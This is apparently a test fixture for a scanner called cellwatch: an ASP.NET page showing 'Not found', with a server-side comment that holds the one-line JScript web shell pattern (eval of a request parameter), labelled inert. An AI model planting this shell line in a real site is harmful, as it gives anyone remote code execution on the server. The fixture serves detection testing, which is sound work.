<%-- cellwatch test fixture: an inert shape of a web shell, inside a server-side comment; it runs nothing.
<%@ Page Language="Jscript"%><%eval(Request.Item["cellwatch"],"unsafe");%>
--%>
<html><body>Not found</body></html>
